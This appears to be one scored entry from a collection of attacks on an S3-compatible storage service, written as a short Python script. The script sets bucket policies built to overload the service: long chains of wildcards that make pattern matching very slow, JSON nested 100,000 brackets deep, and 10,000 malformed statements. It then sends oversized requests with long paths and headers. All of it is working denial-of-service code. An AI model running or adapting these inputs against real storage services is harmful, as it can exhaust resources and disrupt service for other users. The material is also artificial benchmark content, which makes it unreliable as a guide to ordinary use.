# attack: 27
# does: works, and sets a policy whose asterisks fit in more ways than anybody can try, nested ones, and large ones
# run: finished
# earns: 10
# with: work
# with: http
work()
import json

import boto3

s3 = boto3.client("s3")
s3.create_bucket(Bucket=f"{given.bucket}-a")
place = f"arn:aws:s3:::{given.bucket}-a/"
statement = {"Effect": "Allow", "Principal": "*", "Action": "s3:" + "*e" * 60, "Resource": [place + "*a" * 200 + "b"] * 20}
statement |= {"Condition": {"StringLike": {"aws:UserAgent": ["*a" * 100 + "b"]}}}
for text in (json.dumps({"Statement": [statement]}), '{"Statement": ' + "[" * 100_000, '{"Statement": [' + '{"Effect": 1},' * 10_000 + "{}]}"):
    try:
        s3.put_bucket_policy(Bucket=f"{given.bucket}-a", Policy=text)
    except Exception as error:
        print(str(error)[:200])
for n in range(5):
    raw("GET", f"/{given.bucket}-a/" + "a" * 1000, sign=n % 2 == 0, User_Agent="a" * 1000)
